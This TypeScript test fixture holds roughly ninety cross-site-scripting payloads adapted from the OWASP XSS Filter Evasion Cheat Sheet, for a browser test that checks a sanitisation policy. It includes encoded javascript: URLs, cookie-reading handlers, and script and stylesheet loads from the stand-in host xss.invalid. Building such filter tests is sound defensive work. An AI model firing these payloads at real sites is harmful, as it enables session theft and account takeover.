/**
 * Attack strings for the XSS suite.
 *
 * Source: OWASP Cheat Sheet Series, "XSS Filter Evasion Cheat Sheet"
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html,
 * cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md in OWASP/CheatSheetSeries), which grew out of
 * RSnake's XSS cheat sheet. The vectors are data: written out here as the sheet gives them, with
 * two changes so that a test can see them fire: remote hosts (xss.rocks, ha.ckers.org) are
 * replaced by `xss.invalid`, which the browser test watches for, and vectors that do nothing
 * observable call `alert()`, which the test catches as a dialog. A few marked "(extra)" come from
 * the sheet's event-handler list or are well-known variants of its entries (SVG links, data: URLs,
 * form actions) that our policy must also stop.
 */

export interface XssVector {
  /** The cheat sheet's heading for the vector. */
  name: string;
  html: string;
  /**
   * The vector leaves a tag or raw-text element open, so the HTML parser swallows what follows
   * it; the fixture puts such vectors last in a story so they hide no other vector.
   */
  swallowsRest?: boolean;
}

const svgOnload = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'XSS\')"/>').toString('base64');
const scriptHtml = Buffer.from("<script>alert('XSS')</script>").toString('base64');
const decimalPadded = [...'javascript:alert(\'XSS\')'].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`).join('');
const decimal = [...'javascript:alert(\'XSS\')'].map((c) => `&#${c.charCodeAt(0)};`).join('');
const hex = [...'javascript:alert(\'XSS\')'].map((c) => `&#x${c.charCodeAt(0).toString(16).toUpperCase()}`).join('');

export const xssVectors: XssVector[] = [
  { name: 'Basic XSS test without filter evasion', html: '<SCRIPT SRC=https://xss.invalid/xss.js></SCRIPT>' },
  { name: 'XSS locator (polyglot)', html: "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>" },
  { name: 'Malformed A tags', html: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { name: 'Malformed A tags without quotes', html: '<a onmouseover=alert(document.cookie)>xxs link</a>' },
  { name: 'Malformed IMG tags', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  { name: 'fromCharCode', html: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>' },
  { name: 'Default SRC tag to get past filters that check SRC domain', html: '<IMG SRC=# onmouseover="alert(\'xxs\')">' },
  { name: 'Default SRC tag by leaving it empty', html: '<IMG SRC= onmouseover="alert(\'xxs\')">' },
  { name: 'Default SRC tag by leaving it out entirely', html: '<IMG onmouseover="alert(\'xxs\')">' },
  { name: 'On error alert', html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
  { name: 'IMG onerror and JavaScript alert encode', html: `<img src=x onerror="${decimalPadded}">` },
  { name: 'Decimal HTML character references', html: `<IMG SRC=${decimal}>` },
  { name: 'Decimal HTML character references without trailing semicolons', html: `<IMG SRC=${decimalPadded}>` },
  { name: 'Hexadecimal HTML character references without trailing semicolons', html: `<IMG SRC=${hex}>` },
  { name: 'Embedded tab', html: '<IMG SRC="jav\tascript:alert(\'XSS\');">' },
  { name: 'Embedded encoded tab', html: '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">' },
  { name: 'Embedded newline to break up XSS', html: '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">' },
  { name: 'Embedded carriage return', html: '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">' },
  { name: 'Null breaks up JavaScript directive', html: '<IMG SRC=java\0script:alert("XSS")>' },
  { name: 'Spaces and meta chars before the JavaScript in images', html: '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">' },
  { name: 'Non-alpha-non-digit XSS', html: '<SCRIPT/XSS SRC="https://xss.invalid/xss.js"></SCRIPT>' },
  { name: 'Non-alpha-non-digit before the equals sign', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { name: 'Slash between tag and attribute', html: '<SCRIPT/SRC="https://xss.invalid/xss.js"></SCRIPT>' },
  { name: 'Extraneous open brackets', html: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { name: 'Escaping JavaScript escapes', html: '\\";alert(\'XSS\');//' },
  { name: 'End the script block and start your own', html: "</script><script>alert('XSS');</script>" },
  { name: 'End title tag', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { name: 'INPUT image', html: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { name: 'BODY image', html: '<BODY BACKGROUND="javascript:alert(\'XSS\')">' },
  { name: 'IMG dynsrc', html: '<IMG DYNSRC="javascript:alert(\'XSS\')">' },
  { name: 'IMG lowsrc', html: '<IMG LOWSRC="javascript:alert(\'XSS\')">' },
  { name: 'List-style-image', html: '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br></UL>' },
  { name: 'VBscript in an image', html: '<IMG SRC=\'vbscript:msgbox("XSS")\'>' },
  { name: 'SVG object tag', html: "<svg/onload=alert('XSS')>" },
  { name: 'ECMAScript 6', html: 'Set.constructor`alert\\x28document.domain\\x29`' },
  { name: 'BODY tag', html: "<BODY ONLOAD=alert('XSS')>" },
  { name: 'Event handlers: onClick (extra)', html: '<div onclick="alert(\'XSS\')">click me</div>' },
  { name: 'Event handlers: onFocus with autofocus (extra)', html: '<p tabindex="0" autofocus onfocus="alert(\'XSS\')">focus me</p>' },
  { name: 'Event handlers: onToggle (extra)', html: '<details open ontoggle="alert(\'XSS\')"><summary>x</summary>y</details>' },
  { name: 'Event handlers: onError on media (extra)', html: '<audio src=x onerror="alert(\'XSS\')"></audio><video><source onerror="alert(\'XSS\')"></video>' },
  { name: 'Event handlers: onMouseEnter (extra)', html: '<span onmouseenter="alert(\'XSS\')">hover</span>' },
  { name: 'BGSOUND', html: '<BGSOUND SRC="javascript:alert(\'XSS\');">' },
  { name: '& JavaScript includes', html: '<BR SIZE="&{alert(\'XSS\')}">' },
  { name: 'Style sheet', html: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">' },
  { name: 'Remote style sheet', html: '<LINK REL="stylesheet" HREF="https://xss.invalid/xss.css">' },
  { name: 'Remote style sheet part 2', html: "<STYLE>@import'https://xss.invalid/xss.css';</STYLE>" },
  { name: 'Remote style sheet part 3', html: '<META HTTP-EQUIV="Link" Content="<https://xss.invalid/xss.css>; REL=stylesheet">' },
  { name: 'Remote style sheet part 4', html: '<STYLE>BODY{-moz-binding:url("https://xss.invalid/xssmoz.xml#xss")}</STYLE>' },
  { name: 'STYLE tags that break up JavaScript', html: '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>' },
  { name: 'STYLE attribute that breaks up an expression', html: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">' },
  { name: 'IMG STYLE with expressions', html: 'exp/*<A STYLE=\'no\\xss:noxss("*//*");\nxss:ex/*XSS*//*/*/pression(alert("XSS"))\'>' },
  { name: 'STYLE tag (older Netscape)', html: '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>' },
  { name: 'STYLE tag using background-image', html: '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>' },
  { name: 'STYLE tag using background', html: '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>' },
  { name: 'Anonymous HTML with STYLE attribute', html: '<XSS STYLE="xss:expression(alert(\'XSS\'))">' },
  { name: 'Local htc file', html: '<XSS STYLE="behavior: url(xss.htc);">' },
  { name: 'META', html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">' },
  { name: 'META using data', html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,${scriptHtml}">` },
  { name: 'META with additional URL parameter', html: '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">' },
  { name: 'IFRAME', html: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>' },
  { name: 'IFRAME event based', html: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>' },
  { name: 'FRAME', html: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>' },
  { name: 'DIV background-image', html: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>' },
  { name: 'DIV background-image with unicoded XSS exploit', html: '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">x</DIV>' },
  { name: 'DIV expression', html: '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>' },
  { name: 'Downlevel-hidden block', html: "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->" },
  { name: 'BASE tag', html: '<BASE HREF="javascript:alert(\'XSS\');//">' },
  { name: 'OBJECT tag', html: '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.invalid/scriptlet.html"></OBJECT>' },
  { name: 'EMBED SVG which contains XSS vector', html: `<EMBED SRC="data:image/svg+xml;base64,${svgOnload}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>` },
  { name: 'XML data island with CDATA obfuscation', html: '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>\n<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>' },
  { name: 'Script renamed to an image', html: '<SCRIPT SRC="https://xss.invalid/xss.jpg"></SCRIPT>' },
  { name: 'SSI (server side includes)', html: '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=https://xss.invalid/xss.js></SCRIPT>\'"-->' },
  { name: 'PHP', html: '<? echo(\'<SCR)\';\necho(\'IPT>alert("XSS")</SCRIPT>\'); ?>' },
  { name: 'Cookie manipulation', html: '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">' },
  { name: 'XSS using HTML quote encapsulation 1', html: '<SCRIPT a=">" SRC="https://xss.invalid/xss.js"></SCRIPT>' },
  { name: 'XSS using HTML quote encapsulation 2', html: '<SCRIPT =">" SRC="https://xss.invalid/xss.js"></SCRIPT>' },
  { name: 'XSS using HTML quote encapsulation 3', html: '<SCRIPT a=">" \'\' SRC="https://xss.invalid/xss.js"></SCRIPT>' },
  { name: 'XSS using HTML quote encapsulation 4', html: '<SCRIPT "a=\'>\'" SRC="https://xss.invalid/xss.js"></SCRIPT>' },
  { name: 'XSS using HTML quote encapsulation 5', html: '<SCRIPT a=`>` SRC="https://xss.invalid/xss.js"></SCRIPT>' },
  { name: 'XSS using HTML quote encapsulation 6', html: '<SCRIPT a=">\'>" SRC="https://xss.invalid/xss.js"></SCRIPT>' },
  { name: 'Link with a JavaScript URL (extra)', html: '<A HREF="javascript:document.location=\'https://xss.invalid/\'">XSS</A>' },
  { name: 'Link with a data: URL (extra)', html: `<a href="data:text/html;base64,${scriptHtml}">data link</a>` },
  { name: 'SVG link with xlink:href (extra)', html: '<svg><a xlink:href="javascript:alert(\'XSS\')"><text x="20" y="20">XSS</text></a></svg>' },
  { name: 'Form button formaction (extra)', html: '<form><button formaction="javascript:alert(\'XSS\')">go</button></form>' },
  { name: 'Markdown link with a JavaScript URL (extra)', html: "[click](javascript:alert('XSS'))" },
  { name: 'Markdown image with a JavaScript URL (extra)', html: "![x](javascript:alert('XSS'))" },
  { name: 'No closing script tags', html: '<SCRIPT SRC=https://xss.invalid/xss.js?< B >', swallowsRest: true },
  { name: 'Protocol resolution in script tags', html: '<SCRIPT SRC=//xss.invalid/.j>', swallowsRest: true },
  { name: 'Half open HTML/JavaScript XSS vector', html: '<IMG SRC="javascript:alert(\'XSS\')"', swallowsRest: true },
  { name: 'Double open angle brackets', html: '<iframe src=https://xss.invalid/scriptlet.html <', swallowsRest: true },
  { name: 'TABLE', html: '<TABLE BACKGROUND="javascript:alert(\'XSS\')">', swallowsRest: true },
  { name: 'TD', html: '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">', swallowsRest: true },
];
